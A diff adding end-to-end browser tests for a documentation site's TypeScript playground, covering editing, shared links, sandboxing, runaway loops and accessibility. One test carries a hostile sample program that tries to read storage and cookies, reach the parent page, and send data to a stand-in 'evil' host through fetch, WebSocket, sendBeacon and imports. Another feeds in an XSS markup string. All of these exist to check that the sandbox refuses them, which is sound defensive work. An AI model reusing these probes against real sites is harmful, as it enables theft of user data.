@@ -1,0 +1,274 @@
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { violations } from '../support/axe';
+import { drop, PAGE_SCRIPTS } from '../support/network';
+import { sharedHash, Workshop } from '../support/workshop';
+import { Sample } from '../support/run';
+import { expect, NARROW, open, setColorMode, test, WIDE } from '../support/site';
+
+const QUICKSTART = '/docs/v10/quickstart';
+const PRINTED = ['Listening on http://localhost:3000', 'Order 1 is open', 'Mug: 10 left'];
+
+test('Edit opens a sample’s program: what breaks on the server turns red in the client, before it runs', async ({
+  page,
+}) => {
+  const loaded: string[] = [];
+  page.on('request', (request) => loaded.push(request.url()));
+  const sample = await Sample.open(page, QUICKSTART, 'client.ts');
+  expect(loaded.filter((url) => /\/play\/|workshop/.test(url))).toEqual([]);
+  await sample.figure.getByRole('button', { name: 'Edit' }).click();
+
+  await expect(page).toHaveURL(/\/playground#program=current\/docs__main__quickstart\.\d+\/\d+$/);
+  const workshop = new Workshop(page);
+  await expect(workshop.summary).toHaveText('TypeScript finds no problems.');
+  await workshop.run.click();
+  await expect(workshop.status).toHaveText(/^Ran in/);
+  for (const line of PRINTED) {
+    await expect(workshop.output).toContainText(line);
+  }
+  await expect(workshop.wire.first()).toHaveText(/^POST \/order\.create/);
+
+  await workshop.replace('server.ts', 'byId: t.procedure', 'one: t.procedure');
+  await expect(workshop.summary).toHaveText('1 problem in client.ts.');
+  await expect(workshop.problems).toContainText(/client\.ts:\d+Property 'byId' does not exist/);
+  await workshop.problems.click();
+  await expect(workshop.editor('client.ts')).toBeFocused();
+
+  await workshop.region.getByRole('button', { name: 'Back to the original' }).click();
+  await expect(workshop.summary).toHaveText('TypeScript finds no problems.');
+  await expect(workshop.region.getByRole('button', { name: 'Back to the original' })).toHaveCount(
+    0,
+  );
+});
+
+test('an editor completes names and shows types, and the keyboard leaves it', async ({ page }) => {
+  const workshop = await Workshop.open(page, 'program=current/docs__main__quickstart.0/1');
+  const editor = workshop.editor('client.ts');
+  await editor.click();
+  await page.keyboard.press('Control+End');
+  await page.keyboard.type('\nclient.product.');
+  await expect(page.getByRole('option')).toHaveText([/^byId/, /^list/]);
+  await page.keyboard.press('Enter');
+  await expect(editor).toContainText(/client\.product\.(byId|list)/);
+
+  await page.keyboard.press('Escape');
+  await page.keyboard.press('Tab');
+  await expect(editor).not.toBeFocused();
+
+  await editor.getByText('mug', { exact: false }).first().hover();
+  await expect(page.locator('.workshop__type')).toBeVisible();
+});
+
+test('edits last, until one goes back to the original', async ({ page }) => {
+  const address = 'program=9.x/empty';
+  const workshop = await Workshop.open(page, address);
+  await workshop.editor('server.ts').click();
+  await page.keyboard.insertText(`console.log('mine');`);
+  await page.reload();
+  await expect(workshop.notice).toHaveText(/^Your edits of this program are back/);
+  await expect(workshop.editor('server.ts')).toHaveText(`console.log('mine');`);
+  await workshop.region.getByRole('button', { name: 'Back to the original' }).click();
+  await page.reload();
+  await workshop.isChecked();
+  await expect(workshop.notice).toHaveCount(0);
+  await expect(workshop.editor('server.ts')).toHaveText('');
+});
+
+test('a link has the whole workshop; what it brings is not run, and is said to have come with it', async ({
+  page,
+  browser,
+}) => {
+  const workshop = await Workshop.open(page, sharedHash({ 'a.ts': `console.log('shared');` }));
+  await expect(workshop.notice).toHaveText(
+    'This program came with a link. Read it before you run it.',
+  );
+  await expect(workshop.output).toHaveCount(0);
+  await page.evaluate(() => Object.defineProperty(navigator, 'clipboard', { value: undefined }));
+  await workshop.editor('a.ts').click();
+  await page.keyboard.press('Control+End');
+  await page.keyboard.insertText(`\nconsole.log('and changed');`);
+  await workshop.region.getByRole('button', { name: 'Share' }).click();
+  await expect(workshop.region).toContainText('The link is in the address bar');
+
+  const other = await browser.newPage();
+  await other.goto(page.url());
+  const theirs = new Workshop(other);
+  await theirs.isChecked();
+  await expect(theirs.output).toHaveCount(0);
+  await theirs.run.click();
+  await expect(theirs.output).toHaveText('shared\nand changed\n');
+  await other.close();
+});
+
+for (const [does, hash, says] of [
+  ['lost its end', sharedHash({ 'a.ts': 'let a = 1;' }).slice(0, -8), /^The link does not work/],
+  ['is of another time', sharedHash({ 'a.ts': '' }, '10.x/empty', '7.'), /another version of this/],
+  ['is of a version that is gone', sharedHash({ 'a.ts': '' }, '8.x/a.0'), /no longer have/],
+  ['names a program that is gone', 'program=10.x/docs__gone.0', /no longer have the program/],
+] as const) {
+  test(`a link that ${does} says so, and opens another program`, async ({ page }) => {
+    const workshop = await Workshop.open(page, hash);
+    await expect(workshop.notice).toHaveText(says);
+    await expect(workshop.run).toBeEnabled();
+  });
+}
+
+/**
+ * What someone may try who hands a link to a reader.
+ *
+ * @param evil - the address of another site, which would let anyone in
+ */
+const attempts = (evil: string) => `
+const scope = globalThis as any;
+const evil = '${evil}';
+const attempts: [string, () => unknown][] = [
+  ['storage', () => scope.localStorage.length],
+  ['session', () => scope.sessionStorage.length],
+  ['cookies', () => scope.document.cookie.length],
+  ['databases', () => scope.indexedDB.open('a').name],
+  ['caches', () => scope.caches.open('a')],
+  ['parent', () => scope.parent.document.title],
+  ['top', () => (scope.top.location = evil)],
+  ['navigation', () => (scope.location.href = evil)],
+  ['popup', () => scope.open(evil).closed],
+  ['request', () => scope.XMLHttpRequest.prototype.open.name],
+  ['socket', () => new scope.WebSocket(evil.replace('http', 'ws')).url],
+  ['beacon', () => scope.navigator.sendBeacon(evil)],
+  ['worker', () => new scope.Worker(evil).postMessage],
+  ['scripts', () => scope.importScripts(evil)],
+  ['message', () => scope.postMessage({ type: 'ended' })],
+  ['channel', () => new scope.BroadcastChannel('a').name],
+  ['text as code', () => new Function('return 1')()],
+  ['fetch', () => fetch(evil)],
+  ['module', () => import(/* of another site */ String(evil + 'a.js'))],
+];
+for (const [name, attempt] of attempts) {
+  try {
+    await attempt();
+    console.log(name, 'WORKED');
+  } catch {
+    console.log(name, 'refused');
+  }
+}
+console.log('origin', scope.origin);
+`;
+
+test('a hostile program gets nothing: no storage, page, network, window or code from text', async ({
+  page,
+  consoleErrors,
+}) => {
+  const reached: string[] = [];
+  const evil = http.createServer(({ url }, response) => {
+    reached.push(String(url));
+    const headers = { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' };
+    response.writeHead(200, headers).end('export {};');
+  });
+  await new Promise<void>((resolve) => evil.listen(0, resolve));
+  const { port } = evil.address() as AddressInfo;
+
+  const code = attempts(`http://localhost:${port}/`);
+  const workshop = await Workshop.open(page, sharedHash({ 'a.ts': code }));
+  await page.evaluate(() => localStorage.setItem('secret', 'x'));
+  await workshop.run.click();
+  await expect(workshop.output).toContainText('origin null');
+  await expect(workshop.output).not.toContainText('WORKED');
+  await expect(workshop.output).toContainText('module refused');
+  await expect(workshop.status).toHaveText(/^Ran in/);
+  expect(reached).toEqual([]);
+  expect(page.url()).toContain('/playground#');
+  expect(page.context().pages()).toHaveLength(1);
+  // The browser says what the policy refused.
+  consoleErrors.splice(0);
+  evil.close();
+});
+
+test('text of a program is text, and a loop without end is stopped with its frame', async ({
+  page,
+}) => {
+  const markup = '<img src=x onerror=alert(1)>';
+  const workshop = await Workshop.open(
+    page,
+    sharedHash({ 'a.ts': `console.log('${markup}'); for (;;) {}` }),
+  );
+  await workshop.run.click();
+  await expect(workshop.output).toHaveText(`${markup}\n`);
+  await expect(page.locator('iframe')).toHaveCount(1);
+  await workshop.stop.click();
+  await expect(workshop.status).toHaveText('Stopped');
+  await expect(page.locator('iframe')).toHaveCount(0);
+  await workshop.run.click();
+  await expect(workshop.status).toHaveText('Stopped after 5 s');
+  await expect(page.locator('iframe')).toHaveCount(0);
+});
+
+test('a program that fills the memory, or prints without end, leaves the page as it is @nightly', async ({
+  page,
+}) => {
+  for (const code of [
+    `const all: unknown[] = []; for (;;) all.push(new Array(1000).fill(all.length));`,
+    `for (;;) console.log('a'.repeat(1000));`,
+  ]) {
+    const workshop = await Workshop.open(page, sharedHash({ 'a.ts': code }));
+    await workshop.run.click();
+    await workshop.editor('a.ts').click();
+    await page.keyboard.insertText('// ');
+    await expect(workshop.editor('a.ts')).toContainText('//');
+    await expect(workshop.status).toHaveText(/^Stopped/);
+    await page.goto('about:blank');
+  }
+});
+
+test('an editor that does not load says so, and loads the next time', async ({
+  page,
+  consoleErrors,
+}) => {
+  await open(page, '/playground');
+  const restore = await drop(page, PAGE_SCRIPTS);
+  await page.getByRole('button', { name: 'An empty program' }).first().click();
+  await expect(page.getByRole('alert')).toContainText('The editor did not load.');
+  await restore();
+  await page.getByRole('button', { name: 'Try again' }).click();
+  await new Workshop(page).isChecked();
+  consoleErrors.splice(0);
+});
+
+for (const [where, viewport] of [
+  ['a wide screen', WIDE],
+  ['a phone', NARROW],
+] as const) {
+  test(`on ${where} all of it is in sight, told apart, and named`, async ({ page }) => {
+    await page.setViewportSize(viewport);
+    const files = { 'server.ts': 'const a: string = 1;\n', 'client.ts': '// "b"\nb();\n' };
+    const workshop = await Workshop.open(page, sharedHash(files));
+    await expect(workshop.problems).toHaveCount(2);
+    const tab = page.getByRole('tab', { name: /^client\.ts/ });
+    if (viewport === NARROW) {
+      await expect(workshop.editor('client.ts')).toBeHidden();
+      await tab.click();
+    } else {
+      await expect(tab).toBeHidden();
+      await expect(workshop.editor('server.ts')).toBeVisible();
+    }
+    await expect(workshop.editor('client.ts')).toBeVisible();
+    const scrollWidth = await page.evaluate(() => document.documentElement.scrollWidth);
+    expect(scrollWidth).toBeLessThanOrEqual(viewport.width);
+    for (const mode of ['light', 'dark'] as const) {
+      await setColorMode(page, mode);
+      expect(await violations(page, { include: '.workshop' })).toEqual([]);
+    }
+  });
+}
+
+test.describe('without JavaScript', () => {
+  test.use({ javaScriptEnabled: false });
+
+  test('the playground lists pages with programs, and has no dead buttons', async ({ page }) => {
+    await page.goto('/playground');
+    const main = page.getByRole('main');
+    await expect(main.locator('noscript p')).toHaveText('To edit them, turn on JavaScript.');
+    await expect(main.getByRole('link', { name: 'Quickstart', exact: true })).toHaveCount(2);
+    await expect(main.getByRole('button')).toHaveCount(0);
+    await page.goto(QUICKSTART);
+    await expect(page.getByRole('button', { name: 'Edit' })).toHaveCount(0);
+  });
+});
